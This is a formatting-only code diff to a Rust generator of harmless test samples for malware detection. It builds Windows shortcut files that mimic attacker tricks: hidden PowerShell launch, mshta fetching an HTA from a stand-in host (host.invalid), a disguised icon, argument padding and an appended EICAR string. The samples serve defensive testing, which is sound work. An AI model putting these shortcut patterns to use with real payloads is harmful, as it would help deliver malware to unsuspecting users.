@@ -1,8 +1,8 @@
 //! A3, A4, A5: files that lead somewhere else.
 
+use crate::Standin;
 use crate::build::eicar;
 use crate::build::shortcut::Lnk;
-use crate::Standin;
 
 const SHORTCUTS: &str = "detect/shortcuts";
 const POWERSHELL: &str = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
@@ -14,12 +14,20 @@ pub(super) fn all() -> Vec<Standin> {
     };
     let padded = format!("{}/c echo hello", " ".repeat(400));
     let appended = [
-        Lnk { target: "..\\cmd.exe", arguments: "/c more +1 x.lnk", icon: "%ProgramFiles%\\Reader\\reader.exe", minimised: true }.build(),
+        Lnk {
+            target: "..\\cmd.exe",
+            arguments: "/c more +1 x.lnk",
+            icon: "%ProgramFiles%\\Reader\\reader.exe",
+            minimised: true,
+        }
+        .build(),
         eicar(),
     ]
     .concat();
-    let link = |name: &str, what, text: &str| Standin::new("A4", SHORTCUTS, name, what, text.as_bytes().to_vec()).blocked();
-    let remote = |name: &str, what, text: &str| Standin::new("A5", SHORTCUTS, name, what, text.as_bytes().to_vec()).blocked();
+    let link =
+        |name: &str, what, text: &str| Standin::new("A4", SHORTCUTS, name, what, text.as_bytes().to_vec()).blocked();
+    let remote =
+        |name: &str, what, text: &str| Standin::new("A5", SHORTCUTS, name, what, text.as_bytes().to_vec()).blocked();
     let mut all = vec![
         lnk("report.lnk", "a shortcut that runs PowerShell", POWERSHELL, "-w hidden -c Write-Host hello").technique("T1059.001"),
         lnk("offer.lnk", "a shortcut that runs mshta", "..\\mshta.exe", "https://host.invalid/a.hta").technique("T1218.005"),
